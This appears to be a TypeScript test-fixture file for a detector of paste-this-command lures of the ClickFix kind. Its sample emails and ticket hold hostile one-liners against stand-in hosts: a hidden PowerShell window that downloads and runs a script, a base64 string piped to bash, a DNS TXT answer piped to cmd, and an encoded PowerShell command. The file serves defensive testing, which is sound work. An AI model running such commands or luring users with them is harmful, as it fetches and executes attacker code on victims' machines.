import type { Examples } from "@doorward/core";
import { makeConversation } from "../example-conversations.ts";
import { makeMail } from "../example-mail.ts";

/** Commands that hide, and such that do not. */
export const examples: Examples = {
  hits: [
    {
      name: "a hidden window",
      files: {
        "mail.eml": makeMail({
          text: 'Please open PowerShell and paste:\n\npowershell -w hidden -ep bypass -c "iex(irm https://a.stranger.example/x)"\n',
        }),
      },
    },
    {
      name: "a text that is unpacked and run",
      files: {
        "mail.eml": makeMail({
          text: "Open Terminal and paste this line:\n\necho Y3VybCAtcyBodHRwczovL2ZpeC5leGFtcGxl | base64 -d | bash\n",
        }),
      },
    },
    {
      name: "a program that a name server answers with",
      files: {
        "mail.eml": makeMail({
          text: 'Press Win + R, paste this and press Enter:\n\ncmd /c "nslookup -q=txt a.stranger.example 203.0.113.9 | cmd"\n',
        }),
      },
    },
    {
      name: "an encoded command of PowerShell",
      files: {
        "ticket.json": makeConversation(
          "ticket",
          "Run this command in the terminal to see my error: `powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`",
        ),
      },
    },
  ],
  misses: [
    {
      name: "a tool's installer",
      why: "It says what it does.",
      files: {
        "mail.eml": makeMail({
          text: "Open Terminal and paste:\n\ncurl -fsSL https://tool.stranger.example/install.sh | sh\n",
        }),
      },
    },
    {
      name: "a report on attacks",
      why: "It warns, and asks for nothing.",
      files: {
        "mail.eml": makeMail({
          text: 'ClickFix campaigns keep growing. The fake page tells the visitor to press Win+R, paste a command with Ctrl+V and press Enter. Attackers ask victims to open Terminal as well. Never paste commands from a web page into a terminal. One of them was:\n\npowershell -w hidden -c "iex(irm files.example/a)"\n',
        }),
      },
    },
    {
      name: "a colleague who decodes a text",
      why: "What is decoded is shown and not run.",
      files: {
        "mail.eml": makeMail({
          text: "Open Terminal and paste this to read it:\n\necho aGVsbG8gd29ybGQgaGVsbG8= | base64 -d\n",
        }),
      },
    },
  ],
  evasions: [
    {
      name: "a command that fetches in plain sight",
      caughtBy: "message/command-that-fetches",
      files: {
        "mail.eml": makeMail({
          text: "Open Terminal and paste:\n\ncurl -fsSL https://tool.stranger.example/install.sh | sh\n",
        }),
      },
    },
  ],
};
